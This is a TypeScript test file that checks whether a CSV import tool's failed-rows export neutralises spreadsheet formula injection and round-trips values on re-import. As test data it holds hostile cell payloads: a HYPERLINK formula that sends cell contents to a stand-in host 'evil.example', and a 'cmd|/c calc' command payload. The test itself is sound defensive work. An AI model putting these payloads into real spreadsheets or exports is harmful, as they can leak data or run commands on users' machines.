// Formula injection (issue 15.2): the failed-rows export neutralises every dangerous first character, a
// spreadsheet therefore reads each cell as text, and importing the export back gives the original values.
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { csvDocument } from '../import/csv-write';
import { neutralizeFormula, restoreFormula } from '../import/formula-guard';
import { CoreHarness, valueOf } from '../testing/core-harness';
import { analyze, connectedCore, upload, waitForJob } from './testing/import-test-kit';

const h = new CoreHarness();
afterEach(() => h.cleanup());

/** One per trigger OWASP/ASVS name, plus the cases that must survive exactly. */
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+SUM(1;2)',
  '-2+3',
  '-5',
  '@cmd',
  '\tcmd|/c calc',
  '\r=1+1',
  '＝1+1',
  "'=already quoted",
  "''@twice",
];
/** A spreadsheet evaluates a cell whose first character is one of these. */
const FORMULA_START = /^[=+\-@\t\r\0＝＋－＠]/;

describe('formula guard', () => {
  it('prefixes a quote exactly where needed and restores exactly', () => {
    for (const value of DANGEROUS) {
      const written = neutralizeFormula(value);
      expect(written, JSON.stringify(value)).toBe(`'${value}`);
      expect(restoreFormula(written)).toBe(value);
    }
    for (const value of ['plain', "O'Brien", "'quoted", '2-3', 'a=b', '', ' -1']) {
      expect(neutralizeFormula(value)).toBe(value);
      expect(restoreFormula(value)).toBe(value);
    }
  });

  it('guards a trigger after a ";", so a ";"-splitting spreadsheet cannot start a formula cell inside a field', () => {
    const values = ['plain', 'x;=1+1', 'y;"@z', "k;'-1", 'a;b', '2;3'];
    const doc = csvDocument(['a', 'b', 'c', 'd', 'e', 'f'], [values]);
    expect(doc).toContain(`plain,"x;'=1+1","y;""'@z","k;''-1","a;b","2;3"`);
    expect((parse(doc, { bom: true, cast: (v: string) => restoreFormula(v) }) as string[][])[1]).toEqual(values);
    for (const delimiter of [',', ';']) {
      const cells = (parse(doc, { bom: true, delimiter, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
      for (const cell of cells) expect(cell, `${delimiter}: ${cell}`).not.toMatch(FORMULA_START);
    }
  });
});

describe('failed-rows export', () => {
  it('opens as text in a spreadsheet and round-trips through an import', async () => {
    const sandbox = await h.sandbox();
    const { core } = await connectedCore(h, sandbox);
    // Every row fails validation (no valid email), so every row is exported.
    const rows = DANGEROUS.map((value, i) => [`not-an-email-${i}`, value, `-${i}`]);
    // Written by hand in the shape another app would produce, quoting only what RFC 4180 requires.
    const source = ['Email,First name,Last name', ...rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(','))].join('\r\n');
    const jobId = await upload(core, 'hostile.csv', source);
    const analysis = await analyze(core, jobId);
    valueOf(await core.handle('import.validate', { jobId, mapping: analysis.suggestedMapping }));
    await waitForJob(core, jobId, ['ready', 'finished', 'failed', 'cancelled', 'validated'] as never);

    const report = valueOf<{ csv: string; rows: number }>(await core.handle('jobs.exportFailed', { jobId }));
    expect(report.rows).toBe(DANGEROUS.length);
    expect(report.csv.startsWith('\uFEFF')).toBe(true);
    // What a spreadsheet sees: the cells after CSV parsing. None may start a formula.
    const records = parse(report.csv, { bom: true }) as string[][];
    for (const cell of records.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    const byEmail = new Map(records.slice(1).map((r) => [r[0], r]));
    rows.forEach(([email, first, last], i) => {
      // A file value that was already quoted came in without its guard quote, and goes out with it again.
      const original = restoreFormula(first!);
      expect(byEmail.get(email)?.[1], `row ${i}`).toBe(`'${original}`);
      expect(byEmail.get(email)?.[2]).toBe(`'${last}`);
    });

    // Importing the export back removes exactly the quotes the export added.
    const again = await analyze(core, await upload(core, 'hostile-failed.csv', report.csv));
    expect(again.headers.slice(0, 3)).toEqual(['Email', 'First name', 'Last name']);
    const firstNames = new Map(again.sample.map((r) => [r[0], r[1]]));
    rows.slice(0, again.sample.length).forEach(([email, first]) => expect(firstNames.get(email)).toBe(restoreFormula(first!)));
  });
});
